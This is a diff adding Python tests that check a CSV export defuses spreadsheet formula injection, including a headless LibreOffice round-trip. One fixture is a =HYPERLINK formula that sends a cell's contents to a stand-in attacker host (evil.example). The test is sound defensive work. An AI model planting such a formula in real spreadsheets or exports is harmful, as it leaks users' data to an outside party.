@@ -1388,6 +1388,15 @@ class TestListings:
         assert row == r"| m1/1 | comment | open |  | Say more \| or less, please. | a \\| b |  |"
 
 
+# Statement texts a spreadsheet would run as formulas.
+FORMULAS: dict[str, str] = {
+    "b": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "c": "+1+2 people",
+    "d": "-2+3",
+    "a": "@SUM(1,2)",
+}
+
+
 class TestAmendmentsRegister:
     """diff --format csv: one row per changed paragraph, for people who live in spreadsheets."""
 
@@ -1482,6 +1491,76 @@ class TestAmendmentsRegister:
         with (out / "register.csv").open(encoding="utf-8-sig", newline="") as handle:
             back = list(csv.reader(handle))
         assert back[1][6] == cell
+
+    def formula_repo(self, make_repo: MakeRepo) -> Path:
+        new = base(vid="v2", month="2")
+        for statement, text in FORMULAS.items():
+            start = new.index(f"      - id: {statement}\n")
+            line_start = new.index("text: ", start)
+            line_end = new.index("\n", line_start)
+            quoted = "'" + text.replace("'", "''") + "'"
+            new = new[:line_start] + f"text: {quoted}" + new[line_end:]
+        return two_versions(make_repo, base(), new)
+
+    def test_formulas_are_neutralised(self, make_repo: MakeRepo, tmp_path: Path) -> None:
+        """Cells a spreadsheet would run (= + - @) begin with an apostrophe; LibreOffice keeps them as text."""
+        import shutil
+
+        root = self.formula_repo(make_repo)
+        rows = self.rows("doc@v1", "doc@v2", repo=root)
+        new_cells = sorted(row[6] for row in rows[1:])
+        assert new_cells == sorted(f"'{text}" for text in FORMULAS.values())
+        assert all(not row[5].startswith(("=", "+", "-", "@")) for row in rows[1:])
+        soffice = shutil.which("soffice")
+        if soffice is None:
+            pytest.skip("soffice not installed: apt-get install libreoffice-calc-nogui")
+        target = tmp_path / "register.csv"
+        result = run("diff", "doc@v1", "doc@v2", "--format", "csv", "-o", str(target), repo=root)
+        assert result.exit_code == 0
+        out = tmp_path / "out"
+        subprocess.run(
+            [
+                soffice,
+                "--headless",
+                f"-env:UserInstallation=file://{tmp_path}/lo",
+                "--infilter=CSV:44,34,76,1",
+                "--convert-to",
+                "csv:Text - txt - csv (StarCalc):44,34,76,1",
+                "--outdir",
+                str(out),
+                str(target),
+            ],
+            check=True,
+            capture_output=True,
+            timeout=240,
+        )
+        if not (out / "register.csv").exists():
+            pytest.skip("LibreOffice Calc not installed: apt-get install libreoffice-calc-nogui")
+        import csv
+
+        with (out / "register.csv").open(encoding="utf-8-sig", newline="") as handle:
+            back = list(csv.reader(handle))
+        # Evaluated, =HYPERLINK would come back as "Click" and +1+2 as 3.
+        assert sorted(row[6] for row in back[1:]) == new_cells
+
+    @pytest.mark.parametrize(
+        ("cell", "safe"),
+        [
+            ("=1+1", "'=1+1"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@A1", "'@A1"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("a=1", "a=1"),
+            ("", ""),
+            ("'quoted", "'quoted"),
+        ],
+    )
+    def test_spreadsheet_safe(self, cell: str, safe: str) -> None:
+        from policypos.views import spreadsheet_safe
+
+        assert spreadsheet_safe(cell) == safe
 
 
 class TestOutputIsNeverARepositoryFile:
